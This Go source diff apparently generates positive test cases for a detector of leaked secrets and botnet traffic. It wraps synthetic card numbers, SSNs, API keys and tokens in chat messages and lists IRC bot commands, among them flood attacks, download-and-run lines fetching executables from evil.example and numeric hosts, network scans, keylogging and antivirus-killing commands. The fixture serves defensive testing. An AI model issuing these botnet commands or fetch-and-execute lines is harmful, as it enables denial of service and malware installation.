@@ -1,0 +1,99 @@
+package main
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+)
+
+// template renders one message around a fake value.
+type template func(g gen) string
+
+// ruleTemplates are, per rule, the ways a value shows up in chat.
+func ruleTemplates() map[string][]template {
+	f := func(format string, v func(g gen) string) template {
+		return func(g gen) string { return fmt.Sprintf(format, v(g)) }
+	}
+	card, iban := gen.card, func(g gen) string { return g.iban(g.r.IntN(2) == 0) }
+	ssnDash := func(g gen) string { return g.ssn(g.one("-", "-", " ")) }
+	ssnBare := func(g gen) string { return g.ssn("") }
+	pw := gen.password
+	aws := func(g gen) string { return g.entropic(b64chars, 40, 4.4) }
+	gh := gen.githubClassic
+	ghFine := func(g gen) string { return "github_pat_" + g.pick(alnum, 22) + "_" + g.pick(alnum, 59) }
+	glpat := func(g gen) string { return g.one("glpat-", "glpat-", "glrt-", "gldt-") + g.entropic(alnum, 20, 3.8) }
+	stripe := func(g gen) string { return g.one("sk_live_", "rk_live_") + g.pick(alnum, g.one2([]int{24, 34, 99})) }
+	google := func(g gen) string { return "AIza" + g.pick(alnum+"_-", 35) }
+	azure := func(g gen) string { return g.pick(b64chars, 86) + "==" }
+	generic := func(g gen) string { return g.entropic(alnum, g.num(20, 40), 3.9) }
+	return map[string][]template{
+		"payment-card": {f("here is the card for the hotel booking: %s exp 12/27", card), f("can you charge %s for the conference fees?", card),
+			f("%s", card), f("pls use %s, cvv is on the back", card), f("Card number: %s\nName on card: J. Doe", card),
+			f(`{"text":"my card %s"}`, card), f("Booking ref QX7 / cc %s / thanks!", card)},
+		"iban":                      {f("IBAN %s for the refund", iban), f("please wire the deposit to %s today", iban), f("bank details: %s (BIC on the invoice)", iban)},
+		"us-aba-routing":            {f("routing number %s, account 000123456789", gen.aba), f("ABA: %s", gen.aba), f("our bank's RTN is %s", gen.aba)},
+		"us-ssn":                    {f("my SSN is %s for the HR form", ssnDash), f("employee ssn %s, start date monday", ssnDash), f("%s is the number on the W-2", ssnDash)},
+		"us-ssn-unformatted":        {f("SSN %s", ssnBare), f("social security number: %s", ssnBare)},
+		"uk-nino":                   {f("my NI number is %s", gen.nino), f("National Insurance: %s", gen.nino), f("%s is on the P60", gen.nino)},
+		"uk-nhs-number":             {f("NHS number %s", gen.nhs), f("patient NHS no: %s, ward 4", gen.nhs)},
+		"canada-sin":                {f("SIN: %s", gen.sin), f("my SIN is %s", gen.sin), f("social insurance number %s", gen.sin)},
+		"india-aadhaar":             {f("Aadhaar %s", gen.aadhaar), f("aadhar no. %s for KYC", gen.aadhaar), f("UIDAI number %s", gen.aadhaar)},
+		"password-assignment":       {f("password=%s for the shared mailbox", pw), f("user: svc-backup pwd: %s", pw), f("PASSWD='%s'", pw), f("db pass: %s", pw), f("new wifi password: %s", pw), f(`{"username":"svc","password":"%s"}`, pw)},
+		"private-key":               {f("here's the deploy key\n%s", gen.pemKey), f("%s", gen.pemKey), f(`{"type":"service_account","private_key":"%s"}`, jsonEscapedKey)},
+		"aws-access-key-id":         {f("aws creds for the sandbox: %s", gen.awsKeyID), f("AWS_ACCESS_KEY_ID=%s", gen.awsKeyID), f("key id %s (prod account)", gen.awsKeyID)},
+		"aws-secret-key":            {f("aws_secret_access_key = %s", aws), f("AWS secret: %s", aws), f("the aws secret key is %s, rotate it after", aws), f("[default]\naws_secret_access_key=%s", aws)},
+		"github-token":              {f("use %s to clone", gh), f("GITHUB_TOKEN=%s", gh), f("ci token %s expires friday", gh)},
+		"github-fine-grained-token": {f("token %s", ghFine), f("GH_PAT=%s", ghFine)},
+		"gitlab-token":              {f("export GITLAB_TOKEN=%s", glpat), f("gitlab token %s for the runner", glpat)},
+		"slack-token":               {f("SLACK_BOT_TOKEN=%s", gen.slackToken), f("bot token is %s", gen.slackToken)},
+		"slack-webhook":             {f("post alerts to %s", gen.slackWebhook), f("webhook: %s", gen.slackWebhook)},
+		"stripe-secret-key":         {f("STRIPE_KEY=%s", stripe), f("live key %s, don't commit it", stripe)},
+		"google-api-key":            {f("maps key %s", google), f("https://maps.googleapis.com/maps/api/geocode/json?key=%s&address=paris", google)},
+		"azure-storage-key":         {f("DefaultEndpointsProtocol=https;AccountName=corpdata;AccountKey=%s;EndpointSuffix=core.windows.net", azure)},
+		"jwt":                       {f("Authorization: Bearer %s", gen.jwt), f("session cookie is %s", gen.jwt), f("try this token %s", gen.jwt), f("Cookie: session=%s; Path=/; HttpOnly", gen.jwt)},
+		"database-url":              {f("db url is %s", gen.dbURL), f("DATABASE_URL=%s", gen.dbURL), f("connect with %s", gen.dbURL)},
+		"generic-secret":            {f("client_secret: %s", generic), f(`API_KEY="%s"`, generic), f("signing_key = %s", generic), f("secret=%s", generic)},
+	}
+}
+
+// awsShaped finds a value of exactly 40 base64 characters.
+var awsShaped = regexp.MustCompile(`(?:^|[^A-Za-z0-9/+])[A-Za-z0-9/+]{40}(?:$|[^A-Za-z0-9/+=])`)
+
+// jsonEscapedKey is a PEM key as it appears inside a JSON string.
+func jsonEscapedKey(g gen) string { return strings.ReplaceAll(g.pemKey(), "\n", `\n`) }
+
+// ircCases are bot command lines arriving over IRC.
+var ircCases = map[string][]string{
+	"irc-bot-flood":    {"!ddos 203.0.113.7 80 600", ".udpflood 198.51.100.20 53 120", "@syn 192.0.2.1 443", "!ddos.stop", "!httpflood http://victim.example/ 300", ".slowloris 203.0.113.9 80", "!tcpflood 192.0.2.44 22 60"},
+	"irc-bot-download": {"!download http://198.51.100.9/bot.exe C:\\temp\\svchost.exe 1", ".update http://evil.example/v2.exe", "@dlexec ftp://203.0.113.5/payload.bin", "!dl http://203.0.113.8/m.exe", "!wget http://198.51.100.3/x86 /tmp/.x"},
+	"irc-bot-scan":     {"!scan 10.0.0.0/8 445", ".advscan lsass 200 5 0 -r -s", "!portscan 192.0.2.0 1-1024", "!sshscan 198.51.100.0/24", ".scan.stop"},
+	"irc-bot-login":    {"!login h4x0rpass", ".auth s3cret", ".l b0tm4st3r", "!logon x9k2m"},
+	"irc-bot-control":  {"!spread", ".botkill", "@sysinfo", "!socks5 1080", "!keylog on", ".killav"},
+}
+
+func positives(g gen, n int) []Case {
+	var out []Case
+	tmpls := ruleTemplates()
+	for _, id := range sortedKeys(tmpls) {
+		ts := tmpls[id]
+		for i := 0; i < n; i++ {
+			c := Case{Text: ts[i%len(ts)](g), Rules: []string{id}}
+			if strings.HasPrefix(c.Text, "AWS secret: ") {
+				// "secret: <value>" is also a generic secret assignment.
+				c.Rules = append(c.Rules, "generic-secret")
+			}
+			if id == "generic-secret" && awsShaped.MatchString(c.Text) && strings.Contains(strings.ToLower(c.Text), "secret") {
+				// 40 base64 characters next to "secret" is also the shape
+				// of an AWS secret access key.
+				c.Rules = append(c.Rules, "aws-secret-key")
+			}
+			out = append(out, c)
+		}
+	}
+	for _, id := range sortedKeys(ircCases) {
+		for _, line := range ircCases[id] {
+			out = append(out, Case{Text: line, Rules: []string{id}, Direction: "inbound", Service: "irc"})
+		}
+	}
+	return out
+}
